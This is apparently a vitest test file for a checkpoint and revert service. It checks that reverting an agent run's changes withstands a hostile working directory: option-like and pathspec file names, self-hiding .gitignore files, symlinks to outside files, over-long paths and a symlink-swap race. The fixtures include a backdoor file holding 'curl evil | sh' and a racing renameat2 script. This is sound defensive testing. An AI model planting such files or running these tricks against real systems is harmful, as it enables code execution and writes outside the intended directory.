import { execFileSync, spawn } from 'node:child_process';
import { existsSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, realpathSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { CheckpointService } from '../../src/checkpoints/checkpoint-service.js';
import type { RunRecord } from '../../src/db/run-repository.js';

/*
 * The revert runs in the service, outside any sandbox, over a working directory a run (or the
 * repository it came with) may have shaped against it. Each case is judged by its side effect: a
 * file outside the working directory, a file the undo left in place, a user's edit overwritten.
 */

let workingDir: string;
let root: string;
let outside: string;
let service: CheckpointService;
beforeEach(() => {
  workingDir = realpathSync(mkdtempSync(join(tmpdir(), 'mada-revert-wd-')));
  root = mkdtempSync(join(tmpdir(), 'mada-revert-root-'));
  outside = realpathSync(mkdtempSync(join(tmpdir(), 'mada-revert-outside-')));
  writeFileSync(join(outside, 'canary.txt'), 'canary\n');
  service = new CheckpointService({ root, maxFileBytes: 1024 * 1024, excludedPaths: [], log: { warn: () => undefined } });
});
afterEach(() => {
  // rm(1), not rmSync: a path past PATH_MAX cannot be removed by its full name.
  execFileSync('rm', ['-rf', workingDir, root, outside]);
});

let runs = 0;
/** A run that makes `change` between its two snapshots; the ended run. */
async function run(change: () => void): Promise<RunRecord> {
  const id = `44444444-4444-4444-8444-${String(++runs).padStart(12, '0')}`;
  const checkpoint = service.forRun(id, workingDir);
  await checkpoint.beforeModify();
  change();
  await checkpoint.finish();
  return { id, workingDir, status: 'succeeded' } as RunRecord;
}

const at = (path: string): string => join(workingDir, path);
/** A name with a byte that is not UTF-8, as the file system holds it. */
const latin1Name = (name: string): Buffer => Buffer.from(`${workingDir}/${name}`, 'latin1');

describe('a revert over a working directory shaped by the run', () => {
  it('still sees the user’s edit after the run, though the run made names with newlines that would shift a list of paths', async () => {
    writeFileSync(at('c.txt'), 'before the run\n');
    const ended = await run(() => {
      // A list of paths one per line reads `a\nb.txt` as `a` and `b.txt`: every file after it
      // would be compared with the content of the one before. Made so that each shifted
      // comparison matches.
      writeFileSync(at('a'), 'same\n');
      writeFileSync(at('a\nb.txt'), 'same\n');
      writeFileSync(at('b.txt'), 'what the run left in c.txt\n');
      writeFileSync(at('c.txt'), 'what the run left in c.txt\n');
    });
    writeFileSync(at('c.txt'), 'the user’s own work\n');

    await expect(service.revert(ended, false)).rejects.toThrow('Files changed since the run: c.txt');
    expect(readFileSync(at('c.txt'), 'utf8')).toBe('the user’s own work\n');
  });

  it('takes names that read as options or pathspec magic as names: exactly those files are undone', async () => {
    writeFileSync(at('keep.txt'), 'kept\n');
    const names = ['--output=stolen', '-rf', ':(glob)*', ':!keep.txt', '*'];
    const ended = await run(() => {
      for (const name of names) writeFileSync(at(name), `${name}\n`);
    });

    expect((await service.changes(ended)).files.map(({ path }) => path).sort()).toEqual([...names].sort());
    expect((await service.revert(ended, false)).sort()).toEqual([...names].sort());
    expect(readdirSync(workingDir)).toEqual(['keep.txt']);
  });

  it('undoes files whose names are not UTF-8: the one added is removed, the one changed gets its content back', async () => {
    writeFileSync(latin1Name('old-\xe9.txt'), 'before\n');
    const ended = await run(() => {
      writeFileSync(latin1Name('new-\xff.txt'), 'added by the run\n');
      writeFileSync(latin1Name('old-\xe9.txt'), 'changed by the run\n');
    });

    const reverted = await service.revert(ended, false);
    expect(reverted).toHaveLength(2);
    expect(existsSync(latin1Name('new-\xff.txt')), 'the added file is still there').toBe(false);
    expect(readFileSync(latin1Name('old-\xe9.txt'), 'utf8')).toBe('before\n');
  });

  it.each([
    ['a .gitignore that ignores itself', 'tools/.gitignore', '*\n'],
    ['a .ignore that ignores itself', 'tools/.ignore', '*\n'],
    ['a top-level .gitignore listing itself', '.gitignore', '.gitignore\ntools/\n'],
  ])('shows %s that the run added to hide its files, and takes it away on revert', async (_, ruleFile, rules) => {
    writeFileSync(at('kept.txt'), 'kept\n');
    const ended = await run(() => {
      mkdirSync(at('tools'));
      writeFileSync(at('tools/backdoor.sh'), 'curl evil | sh\n');
      writeFileSync(at(ruleFile), rules);
    });

    const { files, diff } = await service.changes(ended);
    expect(files.map(({ path, change }) => `${change} ${path}`)).toEqual([`added ${ruleFile}`]);
    expect(diff).toContain(`+++ b/${ruleFile}`);
    expect(await service.revert(ended, false)).toEqual([ruleFile]);
    expect(existsSync(at(ruleFile))).toBe(false);
  });

  it('says which directory it could not read (a path past PATH_MAX) rather than leave its files out unsaid', async () => {
    writeFileSync(at('a.txt'), 'before\n');
    const ended = await run(() => {
      writeFileSync(at('a.txt'), 'after\n');
      // 25 levels of 200 characters: git cannot open the deepest directories by their path.
      execFileSync('python3', ['-c', "import os\nfor _ in range(25):\n    os.mkdir('d' * 200)\n    os.chdir('d' * 200)\nopen('hidden.sh', 'w').write('evil')"], { cwd: workingDir });
    });

    const { files, diff } = await service.changes(ended);
    expect(files.map(({ path }) => path)).toEqual(['a.txt']);
    // git cuts its warning at 4 KiB: the note names the directory as far as git said it.
    expect(diff).toMatch(/^# Not in the checkpoint, nor undone by a revert: (d{200}\/)+d*\.\.\. \(path cut by git\)\n/m);
  });

  it('says which repository of its own it could not walk for a name that is not UTF-8, rather than leave its files out unsaid', async () => {
    const ended = await run(() => {
      // git lists a nested repository as one directory; its files are found by a walk that goes by text paths.
      execFileSync('python3', ['-c', "import os, subprocess\nfor d in [b'vendor\\xff', b'plain']:\n    os.mkdir(d)\n    subprocess.run(['git', 'init', '-q', d], check=True)\n    open(d + b'/evil.sh', 'w').write('evil')"], { cwd: workingDir });
    });

    const { files, diff } = await service.changes(ended);
    expect(files.map(({ path }) => path)).toEqual(['plain/evil.sh']);
    expect(diff).toContain('# Not in the checkpoint, nor undone by a revert: vendor\ufffd/ (a repository of its own whose name is not UTF-8)\n');
  });

  it('puts back a file the run replaced by a link to a file outside, without writing through the link', async () => {
    writeFileSync(at('a.txt'), 'before\n');
    const ended = await run(() => {
      unlinkSync(at('a.txt'));
      symlinkSync(join(outside, 'canary.txt'), at('a.txt'));
    });

    // Snapshots hold no links: the one still there reads as a change since the run, so forced.
    expect(await service.revert(ended, true)).toEqual(['a.txt']);
    expect(readFileSync(join(outside, 'canary.txt'), 'utf8')).toBe('canary\n');
    expect(lstatSync(at('a.txt')).isFile()).toBe(true);
    expect(readFileSync(at('a.txt'), 'utf8')).toBe('before\n');
  });

  it('makes and writes nothing outside while another process keeps swapping a directory on the way for a link to the outside', async () => {
    mkdirSync(at('sub/deep'), { recursive: true });
    for (let i = 0; i < 20; i++) writeFileSync(at(`sub/deep/f${i}.txt`), `${i}\n`);
    const ended = await run(() => rmSync(at('sub/deep'), { recursive: true }));
    symlinkSync(outside, at('l'));
    // A concurrent run's bash: `sub` and the link `l` change places over and over (RENAME_EXCHANGE),
    // and the link is made again whenever the revert took it away.
    const racer = spawn('python3', [
      '-c',
      [
        'import ctypes, os, time',
        'libc = ctypes.CDLL(None, use_errno=True)',
        'end = time.time() + 3',
        'while time.time() < end:',
        '    libc.renameat2(-100, b"sub", -100, b"l", 2)',
        '    if not os.path.lexists("l"):',
        `        os.symlink("${outside}", "l")`,
      ].join('\n'),
    ], { cwd: workingDir, stdio: 'ignore' });
    let racing = true;
    const raced = new Promise((resolve) => racer.on('exit', resolve)).then(() => (racing = false));
    // Each revert starts a sandbox: as many as fit while the racer runs, a few at least.
    for (let i = 0; racing || i < 3; i++) await service.revert(ended, true).catch(() => undefined);
    await raced;

    expect(readdirSync(outside), 'the revert made or wrote something outside the working directory').toEqual(['canary.txt']);
  }, 60_000);
});
